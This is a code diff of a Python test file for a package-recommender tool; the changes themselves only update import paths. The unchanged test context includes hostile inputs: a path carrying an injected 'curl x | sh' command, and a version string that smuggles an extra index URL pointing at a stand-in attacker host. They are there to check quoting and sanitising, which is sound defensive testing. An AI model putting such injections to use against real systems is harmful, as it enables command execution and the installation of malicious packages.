@@ -174,7 +174,7 @@ def test_a_venv_path_with_a_space_stays_the_interpreter_of_install_it(tmp_path):
 
 
 def test_quote_python_and_safe_version():
-    from recommender.shell import quote_python, safe_project_name, safe_version
+    from recommender.core.shell import quote_python, safe_project_name, safe_version
 
     assert quote_python("/opt/my venv/bin/python") == "'/opt/my venv/bin/python'"
     assert quote_python("/opt/py; curl x | sh; python3") == "'/opt/py; curl x | sh; python3'"
@@ -193,10 +193,10 @@ def test_quote_python_and_safe_version():
 
 def test_requirements_never_take_a_line_from_a_probed_value():
     """Trigger: a probed (not loaded, so not refused) version holding a newline."""
-    from recommender.decide.checklist import Checklist
+    from recommender.decide.checklist.build import Checklist
     from recommender.decide.starter import requirements
-    from recommender.engine.rulebase import load_rulebase
     from recommender.facts.document import Facts
+    from recommender.rulebase.load import load_rulebase
 
     doc = json.loads(MACHINE.read_text())
     doc["frameworks"]["pytorch"]["version"] = "2.13.0\n--index-url https://evil.example/simple"
@@ -250,7 +250,7 @@ def test_out_onto_a_character_device_writes_in_place(tmp_path):
 
 def test_a_socket_is_refused_and_an_existing_files_mode_is_kept(tmp_path):
     """Trigger: an existing 0600 file came back 0644; a socket would have been replaced."""
-    from recommender.atomic import write_atomic
+    from recommender.core.atomic import write_atomic
 
     secret = tmp_path / "answers.yaml"
     secret.write_text("old\n")
